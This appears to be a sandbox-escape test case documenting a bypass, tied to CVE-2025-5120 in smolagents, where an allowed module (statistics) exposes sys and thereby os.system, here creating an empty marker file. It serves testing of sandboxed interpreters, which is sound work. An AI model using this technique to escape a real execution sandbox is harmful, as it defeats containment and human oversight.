"""A module that is allowed has sys, and that has all.

Known from: CVE-2025-5120 of smolagents (queue.threading, statistics.sys)
Effect: made
Host: import queue, statistics
Given: statistics
Jail: no builtins
"""
statistics.sys.modules["os"].system(": > made")
